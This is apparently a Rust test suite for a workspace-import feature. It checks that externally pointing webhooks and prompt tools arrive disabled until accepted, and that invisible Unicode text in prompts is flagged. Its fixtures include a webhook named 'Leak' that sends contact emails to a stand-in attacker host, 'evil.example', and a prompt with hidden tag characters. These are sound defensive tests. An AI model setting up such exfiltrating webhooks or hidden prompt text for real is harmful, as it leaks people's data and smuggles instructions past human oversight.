//! What foreign content sends to by itself, over HTTP: switched off, accepted, trusted, refused; and text that cannot be seen.

use local::workspace::Workspace;
use serde_json::{Value, json};
use shared::domain::{ObjectId, PerKind, Setup, SetupItem};
use tests::{GLOBEX, PAT, SAM, TestApp, apply_body, capture, setup_items, table_items, user_with_setup};

const HOOK: &str = "https://evil.example";

fn item(number: u8, document: Value) -> SetupItem {
    SetupItem { id: ObjectId::from_bytes([number; 12]), document: serde_json::from_value(document).unwrap() }
}

/// The smallest webhook: a host alone, and nothing that could be a secret.
fn webhook() -> Value {
    json!({"name": "Leak", "event": "message.received",
           "actions": {"sendToWebhook": true, "webhookUrl": HOOK, "webhookPayload": {"email": "{{contact.email}}"}}})
}

async fn snapshot(app: &TestApp, automations: Vec<Value>, prompts: Vec<Value>) -> String {
    let items =
        |first: u8, documents: Vec<Value>| (first..).zip(documents).map(|(number, it)| item(number, it)).collect();
    let setup =
        Setup::from(PerKind { automations: items(1, automations), prompts: items(50, prompts), ..PerKind::default() });
    capture(app, user_with_setup(app, 1, &setup).await).await
}

fn body(email: &str) -> Value {
    let mut body = apply_body();
    body["pipelineMapping"] = json!(null);
    body["newUser"]["email"] = json!(email);
    body
}

/// Which of the automations that arrived is on.
async fn arrived(app: &TestApp, result: &Value) -> Vec<bool> {
    let user = result["userId"].as_str().unwrap();
    let [automations, ..] = setup_items(app, GLOBEX, user).await;
    let switches = app.item(&format!("ORG#{GLOBEX}#USER#{user}"), "PREFERENCES").await.unwrap();
    let switches = switches["enabled"].as_m().unwrap().clone();
    automations.iter().map(|(id, _)| switches.get(id).is_none_or(|on| *on.as_bool().unwrap())).collect()
}

/// The warnings of a plan or a result, but for the one that the revision is not shared.
fn warnings(of: &Value) -> Value {
    let all = of["warnings"].as_array().unwrap().iter();
    all.filter(|warning| warning["code"] != "unshared_revision").cloned().collect()
}

#[tokio::test]
async fn a_webhook_to_a_host_alone_arrives_off_until_it_is_accepted() {
    let app = TestApp::start().await;
    let id = snapshot(&app, vec![webhook()], vec![]).await;
    let sam = app.token(SAM);
    let plan = app.plan(&sam, &id, &body("a@acme.example")).await.expect(200)["plan"].clone();
    let automation = ObjectId::from_bytes([1; 12]).to_string();
    assert_eq!(
        plan["destinations"],
        json!([{"destination": HOOK, "kind": "url", "automationId": automation, "automationName": "Leak",
                "pointer": "/actions/webhookUrl", "accepted": false}])
    );
    assert_eq!(plan["clones"][0]["enabled"], false);
    let answer = app.apply(&sam, &id, &body("a@acme.example")).await;
    let result = answer.expect(201)["result"].clone();
    let warnings_of_result = warnings(&result);
    assert_eq!(warnings_of_result[0]["code"], "external_destination");
    assert!(warnings_of_result[0]["detail"].as_str().unwrap().contains(HOOK));
    assert_eq!(arrived(&app, &result).await, [false]);

    let mut accepting = body("b@acme.example");
    accepting["allowDestinations"] = json!([plan["destinations"][0]["destination"]]);
    accepting["onUnmapped"] = json!("reject");
    let accepted = app.plan(&sam, &id, &accepting).await.expect(200)["plan"].clone();
    assert_ne!(accepted["planHash"], plan["planHash"]);
    assert_eq!((&accepted["refusals"], &accepted["destinations"][0]["accepted"]), (&json!([]), &json!(true)));
    let result = app.apply(&sam, &id, &accepting).await.expect(201)["result"].clone();
    assert_eq!(warnings(&result), json!([]));
    assert_eq!(arrived(&app, &result).await, [true]);
}

#[tokio::test]
async fn what_is_not_accepted_is_refused_where_the_request_says_so() {
    let app = TestApp::start().await;
    let id = snapshot(&app, vec![webhook()], vec![]).await;
    let mut rejecting = body("a@acme.example");
    rejecting["onUnmapped"] = json!("reject");
    let before = table_items(&app).await.len();
    let answer = app.apply(&app.token(SAM), &id, &rejecting).await;
    answer.expect_problem(422, "refused");
    assert_eq!(answer.pointers(), ["/allowDestinations"]);
    rejecting["allowDestinations"] = json!([HOOK, "https://evil.example/other"]);
    let answer = app.apply(&app.token(SAM), &id, &rejecting).await;
    answer.expect_problem(422, "refused");
    assert_eq!(answer.pointers(), ["/allowDestinations/1"]);
    assert_eq!(table_items(&app).await.len(), before);
    rejecting["allowDestinations"] = json!(HOOK);
    app.apply(&app.token(SAM), &id, &rejecting).await.expect_problem(400, "invalid_body");
    rejecting["allowDestinations"] = json!(vec![HOOK; 5_001]);
    let answer = app.apply(&app.token(SAM), &id, &rejecting).await;
    answer.expect_problem(422, "refused");
    assert_eq!(answer.pointers(), ["/allowDestinations"]);
    rejecting["allowDestinations"] = json!(vec![HOOK; 5_000]);
    app.apply(&app.token(SAM), &id, &rejecting).await.expect(201);
}

#[tokio::test]
async fn an_organization_trusts_destinations_of_its_own() {
    let mut workspace = Workspace::demo().unwrap();
    workspace.organizations[1].organization.trusted_destinations = vec![HOOK.to_owned()];
    let app = TestApp::with_workspace(workspace).await;
    let id = snapshot(&app, vec![webhook()], vec![]).await;
    let result = app.apply(&app.token(SAM), &id, &body("a@acme.example")).await.expect(201)["result"].clone();
    assert_eq!((arrived(&app, &result).await, warnings(&result)), (vec![true], json!([])));
}

#[tokio::test]
async fn in_the_sources_organization_accepted_destinations_are_ignored_with_a_warning() {
    let app = TestApp::start().await;
    let id = snapshot(&app, vec![webhook()], vec![]).await;
    let mut accepting = body("a@acme.example");
    accepting["allowDestinations"] = json!(["https://unknown.example"]);
    let answer = app.apply(&app.token(PAT), &id, &accepting).await;
    assert_eq!(answer.expect(201)["result"]["warnings"][0]["code"], "destinations_ignored");
}

#[tokio::test]
async fn a_prompts_tool_switches_off_the_automation_that_uses_it_and_what_is_ordinary_stays_on() {
    let app = TestApp::start().await;
    let talk =
        json!({"name": "Talk", "prompt": "See https://acme.example", "tools": [{"url": "https://evil.example/t"}]});
    let automations = vec![
        json!({"name": "Talks", "actions": {"prompt": "Talk"}}),
        json!({"name": "Tags", "actions": {"addTag": "acme.example", "forwardTo": "{{owner.email}}"}}),
    ];
    let id = snapshot(&app, automations, vec![talk]).await;
    let plan = app.plan(&app.token(SAM), &id, &body("a@acme.example")).await.expect(200)["plan"].clone();
    assert_eq!(plan["destinations"][0]["itemKind"], "prompt");
    assert_eq!(plan["destinations"][0]["automationName"], "Talks");
    assert_eq!(plan["links"][0]["link"], "https://acme.example");
    let result = app.apply(&app.token(SAM), &id, &body("a@acme.example")).await.expect(201)["result"].clone();
    let mut on = arrived(&app, &result).await;
    on.sort_unstable();
    assert_eq!(on, [false, true]);
}

#[tokio::test]
async fn text_that_cannot_be_seen_stands_beside_the_item_and_in_a_warning() {
    let app = TestApp::start().await;
    let hidden = "Be kind.\u{E0049}\u{E0067}";
    let id = snapshot(
        &app,
        vec![],
        vec![json!({"name": "Talk", "prompt": hidden}), json!({"name": "Fine", "prompt": "👨\u{200D}👩"})],
    )
    .await;
    let items = app.snapshot_items(&app.token(PAT), &id, "kind=prompt").await.expect(200)["items"].clone();
    assert_eq!(items[0]["hiddenText"], json!([{"pointer": "/prompt", "escaped": "Be kind.\\u{e0049}\\u{e0067}"}]));
    assert_eq!(items[0]["document"]["prompt"], hidden);
    assert_eq!(items[1].get("hiddenText"), None);
    for token in [SAM, PAT] {
        let plan = app.plan(&app.token(token), &id, &body("a@acme.example")).await.expect(200)["plan"].clone();
        let codes: Vec<_> =
            plan["warnings"].as_array().unwrap().iter().map(|it| it["code"].as_str().unwrap()).collect();
        assert!(codes.contains(&"hidden_text"), "{codes:?}");
    }
}
